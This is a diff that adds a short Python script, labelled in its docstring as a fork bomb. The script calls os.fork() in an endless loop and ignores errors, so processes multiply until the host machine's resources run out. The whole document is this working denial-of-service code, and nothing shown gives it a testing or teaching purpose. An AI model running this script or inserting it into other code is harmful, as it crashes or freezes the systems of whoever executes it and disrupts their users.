@@ -1,0 +1,9 @@
+"""Fork bomb: every process forks forever."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
